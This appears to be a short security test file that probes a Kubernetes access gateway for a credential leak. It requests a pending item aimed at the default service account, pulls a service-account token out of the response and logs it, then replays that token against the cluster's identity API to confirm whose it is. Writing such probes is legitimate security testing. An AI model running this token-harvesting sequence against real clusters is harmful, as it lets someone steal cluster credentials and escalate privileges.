import { it } from 'vitest';
import * as h from './helpers.js';

it('probe', async () => {
  const items = await h.pendingList();
  const t = items.filter((p) => p.target.includes('serviceaccounts/default')).pop();
  const tok = await h.signToken('alice', { action: 'read', exp: 60 });
  const r = await h.gate(`/kubegate/v1/requests/${t.id}`, { as: null, token: tok });
  const token = r.json?.detail?.decoded?.status?.token;
  console.log('leaked token', String(token).slice(0, 30));
  if (token) {
    const who = await h.direct('/apis/authentication.k8s.io/v1/selfsubjectreviews', { method: 'POST', token, body: { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' } });
    console.log('whoami with leaked token', who.status, JSON.stringify(who.json?.status?.userInfo?.username));
  }
});
